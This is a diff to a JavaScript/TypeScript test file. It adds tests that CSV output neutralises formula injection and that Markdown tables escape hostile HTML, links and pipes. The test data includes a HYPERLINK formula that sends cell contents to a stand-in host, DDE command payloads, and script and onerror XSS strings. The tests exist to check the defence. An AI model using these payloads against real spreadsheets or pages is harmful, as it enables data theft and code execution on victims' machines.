@@ -134,3 +134,77 @@ describe('csvTable', () => {
     expect(csvField('通义千问')).toBe('通义千问');
   });
 });
+
+// Issue 7 item 12: hostile model ids and values in files meant for spreadsheets and GitHub.
+const HOSTILE = [
+  '=HYPERLINK("http://e.vil/?"&A1,"click")',
+  '+cmd|\' /C calc\'!A0',
+  '-2+3',
+  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  '\t=1+1',
+  ' =1+1',
+  '<img src=x onerror=alert(1)>',
+  '<script>alert(1)</script>',
+  '[x](javascript:alert(1))',
+  '![x](https://e.vil/t.png)',
+  'a|b',
+];
+
+describe('csvField: formula injection (OWASP)', () => {
+  it('neutralises text cells starting with = + - @, a tab or a carriage return: a quote in front, quoted', () => {
+    expect(csvField('=1+1')).toBe('"\'=1+1"');
+    expect(csvField('+1')).toBe('"\'+1"');
+    expect(csvField('-2+3')).toBe('"\'-2+3"');
+    expect(csvField('@SUM(A1)')).toBe('"\'@SUM(A1)"');
+    expect(csvField('\t=1+1')).toBe('"\' =1+1"'); // the tab is a space once sanitised: still quoted
+    expect(csvField('\r=1')).toBe('"\' =1"');
+    expect(csvField(' =1+1')).toBe('"\' =1+1"');
+    expect(csvField('=HYPERLINK("http://e.vil","x")')).toBe('"\'=HYPERLINK(""http://e.vil"",""x"")"');
+    // an escape sequence in front does not hide one
+    expect(csvField('\u001b[0m=1+1')).toBe('"\'=1+1"');
+  });
+  it('decides on the cell\'s type: numbers stay numbers, however negative', () => {
+    expect(csvField(-1.5)).toBe('-1.5');
+    expect(csvField(-0)).toBe('0');
+    expect(csvField('-1.5')).toBe('"\'-1.5"'); // text that looks like a number is still text
+    expect(csvField('a-b')).toBe('a-b');
+    expect(csvField('e=mc2')).toBe('e=mc2');
+  });
+  it('writes cells as they are with raw (print --csv-raw)', () => {
+    expect(csvField('=1+1', { raw: true })).toBe('=1+1');
+    expect(csvField('-2+3', { raw: true })).toBe('-2+3');
+    expect(csvTable(['repo', 'score'], [['=1+1', -1.5]], { raw: true })).toEqual(['repo,score', '=1+1,-1.5']);
+    expect(csvTable(['repo', 'score'], [['=1+1', -1.5]])).toEqual(['repo,score', '"\'=1+1",-1.5']);
+  });
+});
+
+describe('markdownTable: hostile model ids render as their literal text', () => {
+  it('escapes HTML, links, images and pipes in cells', () => {
+    const lines = markdownTable(['Model', 'Score'], HOSTILE.map((id) => [id, -1.5]));
+    const body = lines.slice(2).join('\n');
+    // no raw HTML, and no "[" or "]" that is not escaped (a link or an image needs both)
+    expect(body).not.toMatch(/<img|<script|(?<!\\)\[|(?<!\\)\]/);
+    expect(lines[2 + HOSTILE.indexOf('<img src=x onerror=alert(1)>')]).toBe('| &lt;img src=x onerror=alert(1)&gt; | -1.50 |');
+    expect(lines[2 + HOSTILE.indexOf('<script>alert(1)</script>')]).toBe('| &lt;script&gt;alert(1)&lt;/script&gt; | -1.50 |');
+    expect(lines[2 + HOSTILE.indexOf('[x](javascript:alert(1))')]).toBe('| \\[x\\](javascript:alert(1)) | -1.50 |');
+    expect(lines[2 + HOSTILE.indexOf('![x](https://e.vil/t.png)')]).toBe('| \\!\\[x\\](https://e.vil/t.png) | -1.50 |');
+    expect(lines[2 + HOSTILE.indexOf('a|b')]).toBe('| a\\|b | -1.50 |');
+    // every line still has exactly the table's two cells: no pipe got through unescaped
+    for (const line of lines) expect(line.replace(/\\\|/g, '').split('|')).toHaveLength(4);
+  });
+});
+
+describe('renderTable with a 100,000-character cell (issue 7 item 10)', () => {
+  it('lays out and draws it in well under a second, cut to its column', () => {
+    const huge: Cell[][] = [
+      [`acme/${'模型'.repeat(50_000)}`, 'chat', 7, 50],
+      ['acme/short', 'pretrained', 7, 51],
+    ];
+    const start = performance.now();
+    const lines = renderTable(columns, huge, { width: 80, color: false });
+    expect(performance.now() - start).toBeLessThan(1000);
+    expectFits(lines, 80);
+    expect(lines.every((line) => stringWidth(line) === stringWidth(lines[0]!))).toBe(true);
+    expect(lines.find((line) => line.includes('acme/模'))).toMatch(/acme\/(模型)+模?… +chat/);
+  });
+});
